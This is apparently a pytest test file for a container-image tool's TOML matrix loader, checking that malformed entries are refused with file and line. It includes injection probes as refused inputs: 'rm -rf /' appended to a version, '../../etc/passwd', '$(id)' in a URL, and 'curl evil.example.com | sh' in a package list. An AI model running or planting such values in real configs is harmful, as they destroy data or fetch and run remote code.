import shutil

import pytest

from imagectl.errors import MatrixError
from imagectl.matrix.load import load_matrix


FLAVORS = 'flavors = ["runtime", "devel", "base"]'  # the fixture's [base] flavors line


def copy_matrix(src, tmp_path):
    dest = tmp_path / "m"
    shutil.copytree(src, dest)
    return dest


def test_loads_fixture_matrix(matrix):
    torch = matrix.frameworks["torch"]
    assert [r.version for r in torch.releases] == ["2.7.1", "2.3.1", "2.3.0"]
    assert matrix.cuda["12.1"].min_driver == "530.30.02"
    assert matrix.os["ubuntu24.04"].python == "3.12"
    assert dict(torch.releases[1].companions) == {"torchaudio": "2.3.1", "torchvision": "0.18.1"}


def test_later_directory_adds_and_overrides(test_matrix_dir, tmp_path):
    extra = tmp_path / "extra"
    extra.mkdir()
    (extra / "torch-local.toml").write_text(open(test_matrix_dir / "torch.toml").read().split("[[release]]")[0] + """
[[release]]
version = "2.3.1"
python = ["3.11"]
  [[release.variant]]
  cuda = "12.1"
  cudnn = "8.9.2.26"
  nccl = "2.20.5"
[[release]]
version = "2.4.0"
python = ["3.11"]
  [[release.variant]]
  cuda = "12.1"
""")
    m = load_matrix([test_matrix_dir, extra])
    versions = [r.version for r in m.frameworks["torch"].releases]
    assert versions == ["2.7.1", "2.4.0", "2.3.1", "2.3.0"]
    assert m.frameworks["torch"].releases[2].python == ("3.11",)


@pytest.mark.parametrize(
    "old, new, message",
    [
        ('cudnn = "8.9.2.26"', 'cudnn = "eight"',
         r"torch.toml:\d+: release 2.3.1 cuda 12.1 cudnn: 'eight' is not a PEP 440"),
        ('version = "2.3.1"', 'version = "2.3.1; rm -rf /"', "release version"),
        ('python = ["3.8", "3.9", "3.10", "3.11", "3.12"]', 'python = ["3.8", "three"]', "is not a Python version"),
        ('check = "torch"', 'check = "../../etc/passwd"', "framework check"),
        ('index_url = "https://download.pytorch.org/whl/{cuda_tag}"', 'index_url = "https://x/$(id)"',
         "framework index_url"),
        ('cuda_tag = "cu{major}{minor}"', 'cuda_tag = "cu{patch}"', "cuda_tag"),
        ('"nvidia-nccl-cu12" = "2.20.5", "triton"', '"nvidia nccl" = "2.20.5", "triton"', "pins"),
        ('[[release.variant]]\n  cuda = "11.8"', '[[release.variant]]\n  cuda = "11.8"\n  pypi = true',
         "more than one variant has pypi"),
        ("[framework]", "[frame]", "unknown top-level key 'frame'"),
    ],
)
def test_schema_errors_name_file_and_line(test_matrix_dir, tmp_path, old, new, message):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = dest / "torch.toml"
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))
    with pytest.raises(MatrixError, match=message):
        load_matrix([dest])


def test_malformed_toml_gives_line(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    (dest / "cuda.toml").write_text('[base]\nrepository = "nvidia/cuda"\nflavors = [\n')
    with pytest.raises(MatrixError, match=r"cuda.toml:\d+: invalid TOML"):
        load_matrix([dest])


def test_cuda_errors(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = dest / "cuda.toml"
    path.write_text(path.read_text().replace('min_driver = "530.30.02"', 'min_driver = "latest"'))
    with pytest.raises(MatrixError, match=r"cuda.toml:\d+: \[cuda.12.1\] min_driver"):
        load_matrix([dest])


def test_missing_directory_and_missing_base(tmp_path):
    with pytest.raises(MatrixError, match="not found"):
        load_matrix([tmp_path / "nope"])
    with pytest.raises(MatrixError, match="no matrix file declares \\[base\\]"):
        load_matrix([tmp_path])


def test_undeclared_cuda_or_os_is_an_error(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = dest / "torch.toml"
    path.write_text(path.read_text().replace('cuda = "11.8"', 'cuda = "11.7"'))
    undeclared = r"torch.toml:\d+: torch 2.3.1 names CUDA 11.7, which no \[cuda\] table declares"
    with pytest.raises(MatrixError, match=undeclared):
        load_matrix([dest])
    path = dest / "cuda.toml"
    path.write_text(path.read_text().replace('os = ["ubuntu22.04", "ubuntu24.04"]', 'os = ["rhel9"]'))
    with pytest.raises(MatrixError, match="os 'rhel9' is not declared"):
        load_matrix([dest])


def edit(dest, name, old, new):
    """Replace the first ``old`` of matrix file ``name`` with ``new`` (which must be there to replace)."""
    path = dest / name
    text = path.read_text()
    assert old in text, f"{old!r} is not in {name}"
    path.write_text(text.replace(old, new, 1))
    return path


def line_number(path, needle):
    return next(n for n, line in enumerate(path.read_text().splitlines(), start=1) if needle in line)


@pytest.mark.parametrize("name, old, new, typo, table, nearest", [
    ("torch.toml", '  pins = { "nvidia-cuda-runtime-cu12"', '  pin = { "nvidia-cuda-runtime-cu12"', "pin",
     r"\[\[release.variant\]\] of release 2.3.1", "did you mean 'pins'"),
    ("torch.toml", '  cudnn = "8.7.0.84"', '  cudn = "8.7.0.84"', "cudn",
     r"\[\[release.variant\]\] of release 2.3.1", "did you mean 'cudnn'"),
    ("torch.toml", 'python = ["3.9", "3.10", "3.11", "3.12", "3.13"]', 'pyhton = ["3.9", "3.10"]', "pyhton",
     r"\[\[release\]\] 2.7.1", "did you mean 'python'"),
    ("torch.toml", 'check = "torch"', 'check = "torch"\nchecks = "torch"', "checks", r"\[framework\]",
     "did you mean 'check'"),
    ("cuda.toml", 'tag = "{cuda_release}-{flavor}-{os}"', 'tag = "{cuda_release}-{flavor}-{os}"\ntags = "x"', "tags",
     r"\[base\]", "did you mean 'tag'"),
    ("cuda.toml", 'apt_python = ["3.12"]', 'apt_pythons = ["3.12"]', "apt_pythons", r"\[os.ubuntu24.04\]",
     "did you mean 'apt_python'"),
    ("cuda.toml", 'release = "12.8.1"', 'release = "12.8.1"\nzzz = 1', "zzz", r"\[cuda.12.8\]",
     "known: archs, min_driver"),
])
def test_unknown_keys_in_nested_tables_name_line_and_nearest_key(test_matrix_dir, tmp_path, name, old, new, typo,
                                                                 table, nearest):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = edit(dest, name, old, new)
    line = line_number(path, f"{typo} =")
    with pytest.raises(MatrixError, match=rf"{name}:{line}: unknown key '{typo}' in {table} \({nearest}"):
        load_matrix([dest])


def test_an_unknown_key_before_the_version_is_found_in_its_own_release(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = edit(dest, "torch.toml", '[[release]]\nversion = "2.3.0"', '[[release]]\npin = 1\nversion = "2.3.0"')
    with pytest.raises(MatrixError, match=rf"torch.toml:{line_number(path, 'pin = 1')}: unknown key 'pin'"):
        load_matrix([dest])


def test_a_misspelt_sub_table_is_an_unknown_key(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    pins = '  pins = { "nvidia-cudnn-cu12" = "9.7.1.26", "nvidia-nccl-cu12" = "2.26.2" }'
    path = edit(dest, "torch.toml", pins, '  [release.variant.pin]\n  "nvidia-nccl-cu12" = "2.26.2"')
    line = line_number(path, "[release.variant.pin]")
    with pytest.raises(MatrixError, match=rf"torch.toml:{line}: unknown key 'pin' .*did you mean 'pins'"):
        load_matrix([dest])


@pytest.mark.parametrize("tag, message", [
    ("{nope}", r"\[base\] tag '\{nope\}' uses \{nope\}; it may only use \{cuda_release\}, \{cuda\}, \{flavor\}"),
    ("{", r"\[base\] tag '\{': Single '\{' encountered"),
    ("{cuda}-}", r"\[base\] tag .*Single '\}'"),
    ("{0}", r"\[base\] tag .* uses \{0\}"),
    ("{os.__class__}", r"\[base\] tag .* uses \{os.__class__\}"),
    ("{os!r}", r"\[base\] tag .* uses \{os!r\}"),
    ("{os:>999999999}", r"\[base\] tag .* uses \{os:>999999999\}"),
    ("{cuda_release} {os}", r"\[base\] tag .* makes no valid reference: invalid image tag '12.1.1 ubuntu22.04'"),
])
def test_base_tag_may_only_use_its_placeholders(test_matrix_dir, tmp_path, tag, message):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = edit(dest, "cuda.toml", 'tag = "{cuda_release}-{flavor}-{os}"', f"tag = '{tag}'")
    with pytest.raises(MatrixError, match=rf"cuda.toml:{line_number(path, 'tag =')}: {message}"):
        load_matrix([dest])


def test_a_literal_brace_pair_in_the_base_tag_is_fine_when_the_tag_stays_valid(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    edit(dest, "cuda.toml", 'tag = "{cuda_release}-{flavor}-{os}"', 'tag = "{cuda_release}-{flavor}-{{os}}"')
    with pytest.raises(MatrixError, match=r"invalid image tag '12.1.1-runtime-\{os\}'"):
        load_matrix([dest])


def test_wheel_cuda_flavor_is_read(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    edit(dest, "cuda.toml", FLAVORS, f'{FLAVORS}\nwheel_cuda_flavor = "base"')
    base = load_matrix([dest]).base
    assert base.wheel_cuda_flavor == "base" and base.flavors == ("runtime", "devel", "base")
    assert load_matrix([test_matrix_dir]).base.wheel_cuda_flavor is None


@pytest.mark.parametrize("value, message", [
    ('"slim"', r"wheel_cuda_flavor 'slim' must be one of flavors after the first \(devel, base\)"),
    ('"runtime"', r"wheel_cuda_flavor 'runtime' must be one of flavors after the first"),  # the no-wheel default
    ("1", r"wheel_cuda_flavor 1 must be one of flavors after the first"),
])
def test_wheel_cuda_flavor_must_be_a_flavor_other_than_the_first(test_matrix_dir, tmp_path, value, message):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = edit(dest, "cuda.toml", FLAVORS, f"{FLAVORS}\nwheel_cuda_flavor = {value}")
    with pytest.raises(MatrixError, match=rf"cuda.toml:{line_number(path, 'wheel_cuda_flavor')}: \[base\] {message}"):
        load_matrix([dest])


@pytest.mark.parametrize("pattern, message", [
    ("cu{major}{minor}{patch}", r"cuda_tag .* uses \{patch\}"),
    ("cu{major:>99999}", r"cuda_tag .* uses \{major:>99999\}"),
    ("cu{major}_{minor}", r"cuda_tag 'cu\{major\}_\{minor\}' makes: 'cu12_1' is not letters then digits"),
    ("{major}{minor}", r"cuda_tag .* makes: '121' is not letters then digits"),
])
def test_cuda_tag_must_make_a_tag_profile_names_can_carry(test_matrix_dir, tmp_path, pattern, message):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = edit(dest, "torch.toml", 'cuda_tag = "cu{major}{minor}"', f'cuda_tag = "{pattern}"')
    with pytest.raises(MatrixError, match=rf"torch.toml:{line_number(path, 'cuda_tag')}: {message}"):
        load_matrix([dest])


@pytest.mark.parametrize("name", ["main", "libraries", "torch_compile", "cuda_toolchain"])
def test_the_shared_check_partials_are_reserved(test_matrix_dir, tmp_path, name):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    edit(dest, "torch.toml", 'check = "torch"', f'check = "{name}"')
    with pytest.raises(MatrixError, match=rf"torch.toml:9: framework check '{name}' is reserved"):
        load_matrix([dest])


def test_deeply_nested_toml_is_an_error_with_a_line(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    (dest / "deep.toml").write_text('# deep\n[gpus]\n"X" = "sm_90"\nx = ' + "[" * 3000 + "]" * 3000 + "\n")
    with pytest.raises(MatrixError, match=r"deep.toml:4: invalid TOML: arrays or tables nested too deeply"):
        load_matrix([dest])


@pytest.mark.parametrize("version", ["2.3.1-1", "2.3.1-rc1", "1!2.3.1", "2.3.1.post1" + "0" * 60])
def test_release_versions_that_cannot_be_in_an_immutable_tag_are_refused(test_matrix_dir, tmp_path, version):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = edit(dest, "torch.toml", 'version = "2.3.0"', f'version = "{version}"')
    line = line_number(path, f'version = "{version}"')
    with pytest.raises(MatrixError, match=rf"torch.toml:{line}: release version: .* cannot be part of an image tag"):
        load_matrix([dest])


@pytest.mark.parametrize("version", ["2.3.2rc1", "2.3.2.post1", "2.3.2+cu121", "2.3.2.dev20240101"])
def test_release_versions_that_make_immutable_tags_load(test_matrix_dir, tmp_path, version):
    import re

    from imagectl.matrix.names import RELEASE_VERSION

    dest = copy_matrix(test_matrix_dir, tmp_path)
    edit(dest, "torch.toml", 'version = "2.3.0"', f'version = "{version}"')
    assert version in [r.version for r in load_matrix([dest]).frameworks["torch"].releases]
    # the immutable-tag scheme of imagectl.tags.naming carries the version part as [0-9][0-9A-Za-z.+_]*
    assert re.fullmatch(RELEASE_VERSION, version) and re.fullmatch(r"[0-9][0-9A-Za-z.+_]*", version.replace("+", "_"))


@pytest.mark.parametrize("file, old, new, message", [
    ("torch.toml", 'name = "torch"', 'name = "tor.ch"', r"framework name: 'tor.ch' is not a lower-case name"),
    ("torch.toml", 'name = "torch"', 'name = "tor-ch"', r"framework name: 'tor-ch' is not a lower-case name"),
    ("torch.toml", 'name = "torch"', 'name = "1torch"', r"framework name: '1torch' is not"),
    ("cuda.toml", FLAVORS, 'flavors = ["runtime", "cudnn-devel"]',
     r"\[base\] flavor: 'cudnn-devel' is not a lower-case name of \[a-z0-9.\]"),
    ("cuda.toml", FLAVORS, 'flavors = ["runtime", "py3.11"]', r"\[base\] flavor: 'py3.11' is"),
    ("cuda.toml", '[os."ubuntu24.04"]', '[os."ubuntu_24.04"]', r"OS name: 'ubuntu_24.04' is not"),
])
def test_names_that_would_be_listed_but_not_resolve_are_refused(test_matrix_dir, tmp_path, file, old, new, message):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = edit(dest, file, old, new)
    with pytest.raises(MatrixError, match=rf"{file}:{line_number(path, new.splitlines()[0])}: {message}"):
        load_matrix([dest])


def test_a_flavor_named_like_an_os_is_refused(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    edit(dest, "cuda.toml", FLAVORS, 'flavors = ["runtime", "ubuntu24.04"]')
    with pytest.raises(MatrixError, match="flavor 'ubuntu24.04' is also an OS name"):
        load_matrix([dest])


def test_every_listed_name_resolves(shipped_matrix, matrix):
    from imagectl.matrix.names import list_profiles, resolve_profile

    for m in (shipped_matrix, matrix):
        for profile in list_profiles(m):
            assert resolve_profile(profile.name, m) == profile


JIT_LINE = 'jit_packages = ["gcc", "g++", "python{python}-dev"]'


def test_jit_packages_load_as_patterns_and_default_to_none(matrix, shipped_matrix, test_matrix_dir, tmp_path):
    assert matrix.frameworks["torch"].jit_packages == ("gcc", "g++", "python{python}-dev")
    assert shipped_matrix.frameworks["torch"].jit_packages == ("gcc", "g++", "python{python}-dev")
    assert shipped_matrix.frameworks["jax"].jit_packages == ()  # XLA needs no host compiler
    dest = copy_matrix(test_matrix_dir, tmp_path)
    edit(dest, "torch.toml", JIT_LINE + "\n", "")
    assert load_matrix([dest]).frameworks["torch"].jit_packages == ()


@pytest.mark.parametrize("value, message", [
    ('"gcc"', "jit_packages must be a list of strings"),
    ('["gcc", 3]', "jit_packages must be a list of strings"),
    ('["gcc; curl evil.example.com | sh"]', "is not a Debian package name"),
    ('["gcc\\nRUN curl evil"]', "is not a Debian package name"),
    ('["g++=4:12.2.0-3"]', "is not a Debian package name"),
    ('["--allow-unauthenticated"]', "is not a Debian package name"),
    ('["G++"]', "is not a Debian package name"),
    ('["libc{os}-dev"]', r"uses \{os\}; it may only use \{python\}"),
    ('["python{python!r}-dev"]', r"uses \{python!r\}"),
    ('["python{0}-dev"]', r"uses \{0\}"),
    ('["python{python"]', "write a literal brace"),
])
def test_bad_jit_packages_are_refused_with_file_and_line(test_matrix_dir, tmp_path, value, message):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    path = edit(dest, "torch.toml", JIT_LINE, f"jit_packages = {value}")
    with pytest.raises(MatrixError, match=message) as caught:
        load_matrix([dest])
    assert str(caught.value).startswith(f"{path}:{line_number(path, 'jit_packages')}: ")


def test_a_misspelt_jit_packages_key_names_the_nearest(test_matrix_dir, tmp_path):
    dest = copy_matrix(test_matrix_dir, tmp_path)
    edit(dest, "torch.toml", JIT_LINE, JIT_LINE.replace("jit_packages", "jit_package"))
    with pytest.raises(MatrixError, match=r"unknown key 'jit_package' in \[framework\] \(did you mean 'jit_packages'"):
        load_matrix([dest])
